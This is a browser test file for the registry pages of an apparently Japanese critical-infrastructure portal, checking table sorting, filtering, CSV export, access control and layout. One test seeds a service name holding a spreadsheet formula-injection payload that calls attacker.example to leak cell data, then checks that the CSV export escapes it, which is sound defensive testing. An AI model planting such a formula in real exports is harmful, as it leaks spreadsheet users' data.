// registry.test.mjs - the registry pages in a real browser: the tabs, the
// 15 CEPTOARs with sorting (mouse and keyboard), filtering and CSV, the
// characteristic map and the server's CSV, organisations with filters and
// their details (systems only for whoever may see them), English.
import test from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { apiCall, newPage, shot, signIn, token, withServer } from './harness.mjs';

let srv;
let browser;

withServer(async (s, b) => {
  srv = s;
  browser = b;
  // BANK-A gets a critical service and a system (admin only, through the API).
  const admin = token(srv, 'admin1');
  const svc = await apiCall(srv, admin, 'POST', '/orgs/BANK-A/services',
    { name_ja: '預金サービス', name_en: 'Deposits', service_level: '99.95%', verification_level: '停止 2 時間以内' });
  await apiCall(srv, admin, 'POST', '/orgs/BANK-A/systems',
    { name_ja: '勘定系システム', name_en: 'Core banking system', service_id: svc.id, description: '本店センター' });
  // A name that a spreadsheet would run as a formula (its CSV must not).
  await apiCall(srv, admin, 'POST', '/orgs/BANK-A/services',
    { name_ja: FORMULA, name_en: 'Transfers' });
});

const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"振込")';


const rows = (page, id) => page.locator(`#${id} tbody tr`);
const firstRow = (page, id) => rows(page, id).first().innerText();

async function csvOf(page, button) {
  const [dl] = await Promise.all([page.waitForEvent('download'), button.click()]);
  const text = readFileSync(await dl.path(), 'utf8').replace(/^\ufeff/, '');
  return { name: dl.suggestedFilename(), lines: text.trim().split(/\r?\n/), text };
}

test('CEPTOARs: 15 rows, sort, filter, CSV; map and server CSV (ja)', async () => {
  const page = await newPage(browser, 'ja');
  await signIn(page, srv.base, 'nisc1');
  await page.goto(srv.base + '/#/registry/ceptoars');
  const table = 'registry-ceptoars';
  await rows(page, table).first().waitFor();
  assert.equal(await rows(page, table).count(), 15);
  assert.equal(await page.locator('nav.tabs a[aria-current=page]').innerText(), 'セプター');
  assert.match(await page.title(), /セプター/);
  assert.match(await firstRow(page, table), /T-CEPTOAR/);

  // Sorting by registered members, twice (descending): the banks' CEPTOAR (3 members) first.
  const members = page.locator(`#${table} th button`, { hasText: '登録構成員数' });
  await members.click();
  await members.click();
  assert.equal(await page.locator(`#${table} th[aria-sort=descending]`).count(), 1);
  assert.match(await firstRow(page, table), /銀行等CEPTOAR/);
  // The same header from the keyboard: Enter sorts ascending again.
  await members.focus();
  await page.keyboard.press('Enter');
  assert.equal(await page.locator(`#${table} th[aria-sort=ascending]`).count(), 1);
  assert.doesNotMatch(await firstRow(page, table), /銀行等CEPTOAR/);

  // The filter narrows the rows; the CSV has what is shown.
  await page.locator(`#${table} input[type=search]`).fill('金融');
  assert.equal(await rows(page, table).count(), 4);
  const csv = await csvOf(page, page.locator(`#${table} .table-tools button`));
  assert.equal(csv.lines.length, 5, csv.text);
  assert.match(csv.lines[0], /名称/);
  assert.ok(csv.lines.some((l) => l.includes('銀行等CEPTOAR')));
  assert.ok(!csv.lines.some((l) => l.includes('T-CEPTOAR')));
  await page.locator(`#${table} input[type=search]`).fill('');
  assert.equal(await rows(page, table).count(), 15);
  await shot(page, 'registry-ceptoars-ja');

  // A CEPTOAR's name lists its member organisations.
  await page.locator(`#${table} a`, { hasText: '銀行等CEPTOAR' }).click();
  await page.waitForURL(/#\/registry\/orgs\?ceptoar=bank-ceptoar/);
  await page.locator('#registry-orgs tbody tr').first().waitFor();
  assert.equal(await rows(page, 'registry-orgs').count(), 3);
  assert.equal(await page.locator('#org-ceptoar').inputValue(), 'bank-ceptoar');

  // The characteristic map: sortable, filterable, the table's CSV and the server's.
  await page.locator('nav.tabs a', { hasText: '特性把握マップ' }).click();
  await rows(page, 'registry-map').first().waitFor();
  assert.equal(await rows(page, 'registry-map').count(), 15);
  const all = await csvOf(page, page.locator('#registry-map .table-tools button'));
  assert.equal(all.lines.length, 16);
  const server = await csvOf(page, page.getByRole('button', { name: 'サーバーの CSV (全項目)' }));
  assert.equal(server.name, 'ceptoar-map.csv');
  assert.match(server.text, /t-ceptoar/);
  assert.match(server.text, /bank-ceptoar/);
  await page.locator('#registry-map th button', { hasText: '構成員数' }).first().click();
  await page.locator('#registry-map input[type=search]').fill('電力');
  assert.ok(await rows(page, 'registry-map').count() >= 1);
  assert.ok(await rows(page, 'registry-map').count() < 15);
  await page.locator('#registry-map input[type=search]').fill('');
  await shot(page, 'registry-map-ja');

  // Sectors, ministries, agencies.
  await page.locator('nav.tabs a', { hasText: '重要インフラ分野' }).click();
  await rows(page, 'registry-sectors').first().waitFor();
  assert.equal(await rows(page, 'registry-sectors').count(), 10);
  await page.locator('nav.tabs a', { hasText: '所管省庁' }).click();
  await rows(page, 'registry-ministries').first().waitFor();
  assert.equal(await rows(page, 'registry-ministries').count(), 5);
  await page.locator('nav.tabs a', { hasText: '関係主体' }).click();
  await rows(page, 'registry-agencies').first().waitFor();
  assert.match(await page.locator('#registry-agencies').innerText(), /JPCERT/);
  assert.deepEqual(page.problems, []);
});

test('organisations: filters, paging state in the URL, details with services and systems', async () => {
  const page = await newPage(browser, 'ja');
  await signIn(page, srv.base, 'nisc1');
  await page.goto(srv.base + '/#/registry/orgs');
  await rows(page, 'registry-orgs').first().waitFor();
  await page.locator('#org-kind').selectOption('operator');
  await page.locator('#org-sector').selectOption('finance');
  await page.locator('form[role=search] button[type=submit]').click();
  await page.waitForURL(/kind=operator/);
  await page.waitForFunction(() => document.querySelectorAll('#registry-orgs tbody tr').length === 3);
  // A text search, from the keyboard.
  await page.locator('#org-q').fill('第一');
  await page.locator('#org-q').press('Enter');
  await page.waitForURL(/q=/);
  await page.waitForFunction(() => document.querySelectorAll('#registry-orgs tbody tr').length === 1);

  await page.locator('#registry-orgs a', { hasText: '第一テスト銀行' }).click();
  const detail = page.locator('#org-detail');
  await detail.locator('#org-services tbody tr').first().waitFor();
  assert.match(await detail.innerText(), /預金サービス/);
  assert.match(await detail.innerText(), /99\.95%/);
  assert.match(await detail.innerText(), /停止 2 時間以内/);
  assert.match(await detail.innerText(), /勘定系システム/); // NISC sees the systems
  assert.equal(await page.evaluate(() => document.activeElement.id), 'org-detail-title');
  await shot(page, 'registry-orgs-ja');
  // The services' CSV: the name a spreadsheet would run starts with an
  // apostrophe (shown as text); the others are as they are.
  const svcCsv = await csvOf(page, detail.locator('#org-services .table-tools button'));
  assert.ok(svcCsv.text.includes('"\'=HYPERLINK(""http://attacker.example/?""&A1,""振込"")"'), svcCsv.text);
  assert.ok(svcCsv.lines.some((l) => l.startsWith('預金サービス,')), svcCsv.text);
  assert.ok(!/(^|,)=/.test(svcCsv.text.replace(/"[^"]*"/g, '')), svcCsv.text);
  // The filters survive opening and closing the details.
  await detail.getByRole('link', { name: '詳細を閉じる' }).click();
  await page.locator('#org-detail').waitFor({ state: 'detached' });
  assert.equal(await page.locator('#org-q').inputValue(), '第一');
  assert.deepEqual(page.problems, []);

  // An operator of another sector sees the services but not the systems.
  const other = await newPage(browser, 'ja');
  await signIn(other, srv.base, 'power1');
  await other.goto(srv.base + '/#/registry/orgs?kind=operator');
  await other.locator('#registry-orgs a', { hasText: '第一テスト銀行' }).click();
  const d2 = other.locator('#org-detail');
  await d2.locator('#org-services tbody tr').first().waitFor();
  assert.match(await d2.innerText(), /預金サービス/);
  assert.doesNotMatch(await d2.innerText(), /勘定系システム/);
  assert.match(await d2.innerText(), /重要システムは、その事業者、所管省庁、NISC のみ閲覧できます/);
  assert.deepEqual(other.problems, []);
});

test('the registry in English', async () => {
  const page = await newPage(browser, 'en');
  await signIn(page, srv.base, 'bankc1');
  await page.goto(srv.base + '/#/registry/sectors');
  await rows(page, 'registry-sectors').first().waitFor();
  assert.equal(await page.locator('nav.tabs a[aria-current=page]').innerText(), 'Sectors');
  const text = await page.locator('#registry-sectors').innerText();
  assert.match(text, /Finance/);
  assert.match(text, /Financial Services Agency/);
  assert.match(text, /Banking CEPTOAR/);
  await shot(page, 'registry-sectors-en');
  await page.locator('nav.tabs a', { hasText: 'CEPTOARs' }).click();
  await rows(page, 'registry-ceptoars').first().waitFor();
  assert.equal(await rows(page, 'registry-ceptoars').count(), 15);
  assert.match(await page.locator('#registry-ceptoars thead').innerText(), /Registered members/);
  await page.locator('nav.tabs a', { hasText: 'Characteristic map' }).click();
  await rows(page, 'registry-map').first().waitFor();
  assert.match(await page.locator('#registry-map').innerText(), /Electric Power CEPTOAR/);
  await shot(page, 'registry-map-en');
  assert.deepEqual(page.problems, []);
});

test('a tablet-sized window: the wide tables scroll in their box, not the page', async () => {
  const page = await newPage(browser, 'ja', { width: 768, height: 1024 });
  await signIn(page, srv.base, 'fsa1');
  for (const [tab, id] of [['ceptoars', 'registry-ceptoars'], ['map', 'registry-map'], ['orgs', 'registry-orgs']]) {
    await page.goto(srv.base + '/#/registry/' + tab);
    await rows(page, id).first().waitFor();
    const [doc, box] = await page.evaluate((i) => [document.documentElement.scrollWidth,
      document.querySelector('#' + i + ' .table-scroll').clientWidth], id);
    assert.ok(doc <= 768, `${tab}: the page is ${doc}px wide`);
    assert.ok(box > 600, `${tab}: the table box is ${box}px wide`);
  }
  await shot(page, 'registry-orgs-tablet-ja');
  assert.deepEqual(page.problems, []);
});
